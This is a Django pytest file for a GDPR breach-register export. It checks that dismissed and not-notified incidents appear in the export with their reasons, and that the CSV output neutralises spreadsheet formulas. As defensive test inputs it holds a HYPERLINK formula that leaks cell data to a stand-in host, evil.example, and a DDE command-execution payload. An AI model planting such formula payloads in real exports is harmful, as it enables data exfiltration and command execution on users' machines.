"""Art. 33(5) register export: every incident, dismissed and not notified included."""

import csv
import io
import json

import pytest
from django.test import Client

from incidents.intake.services import integration_create
from incidents.services.assessments import assessment_compute, assessment_override
from incidents.services.incidents import incident_create
from incidents.services.lifecycle import incident_transition
from tests.conftest import utc


@pytest.mark.django_db
def test_export_includes_dismissed_and_not_notified_with_reasons(api, dpo, org):
    kept = incident_create(
        actor=dpo, data={"title": "Ransomware", "aware_at": utc(2026, 2, 1), "countries": ["DE"]}
    )
    dismissed = incident_create(actor=dpo, data={"title": "False alarm"})
    incident_transition(
        incident_id=dismissed.pk, actor=dpo, to="dismissed", comment="No personal data involved"
    )
    quiet = incident_create(
        actor=dpo,
        data={"title": "Misdirected mail", "aware_at": utc(2026, 2, 2), "countries": ["DE"]},
    )
    incident_transition(incident_id=quiet.pk, actor=dpo, to="assessing")
    assessment_compute(incident_id=quiet.pk, actor=dpo)
    assessment_override(
        incident_id=quiet.pk,
        actor=dpo,
        risk_level="unlikely",
        justification="Trusted recipient confirmed deletion",
    )
    incident_transition(
        incident_id=quiet.pk, actor=dpo, to="not_notifiable", comment="Trusted recipient deleted it"
    )

    response = api["dpo"].get("/api/v1/register/export/?as=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_ref = {row["reference"]: row for row in rows}
    assert set(by_ref) == {kept.reference, dismissed.reference, quiet.reference}
    assert by_ref[dismissed.reference]["decision_reason"] == "No personal data involved"
    assert by_ref[quiet.reference]["status"] == "not_notifiable"
    assert by_ref[kept.reference]["aware_at"] == "2026-02-01T00:00:00Z"

    response = api["dpo"].get("/api/v1/register/export/?as=json")
    data = json.loads(b"".join(response.streaming_content))
    assert [row["reference"] for row in data] == [
        kept.reference,
        dismissed.reference,
        quiet.reference,
    ]
    assert api["dpo"].get("/api/v1/register/export/?as=xml").status_code == 400


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_spreadsheet_formulas(api, dpo, org, start):
    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    incident_create(actor=dpo, data={"title": title, "summary": "=1+1"})
    response = api["dpo"].get("/api/v1/register/export/?as=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    (row,) = rows
    assert row["title"] == "'" + title  # shown as text by a spreadsheet, still readable
    json_rows = json.loads(
        b"".join(api["dpo"].get("/api/v1/register/export/?as=json").streaming_content)
    )
    assert json_rows[0]["title"] == title  # JSON is data, not a spreadsheet: unchanged


@pytest.mark.django_db
def test_an_integration_cannot_plant_a_formula_through_an_alert_title(api, org):
    issued = integration_create(name="csv-inject", source="generic")
    response = Client().post(
        "/api/v1/alerts/generic/",
        data=json.dumps({"title": "=cmd|' /C calc'!A0", "dedup_key": "x"}),
        content_type="application/json",
        headers={"Authorization": f"Bearer {issued.token}"},
    )
    assert response.status_code == 202, response.content
    body = b"".join(api["dpo"].get("/api/v1/register/export/?as=csv").streaming_content).decode()
    assert "\n=cmd" not in body
    assert ",=cmd" not in body
    assert "'=cmd" in body


@pytest.mark.django_db
def test_json_export_matches_its_schema(api, dpo, org):
    incident_create(actor=dpo, data={"title": "Schema", "aware_at": utc(2026, 2, 1)})
    rows = json.loads(
        b"".join(api["dpo"].get("/api/v1/register/export/?as=json").streaming_content)
    )
    schema = api["dpo"].get("/api/schema/?format=json").json()
    op = schema["paths"]["/api/v1/register/export/"]["get"]["responses"]["200"]["content"]
    items = op["application/json"]["schema"]
    assert items["type"] == "array"
    component = items["items"]["$ref"].rsplit("/", 1)[1]
    properties = schema["components"]["schemas"][component]["properties"]
    assert set(properties) == set(rows[0])
    for name, value in rows[0].items():
        if value is None:
            assert properties[name].get("nullable"), name
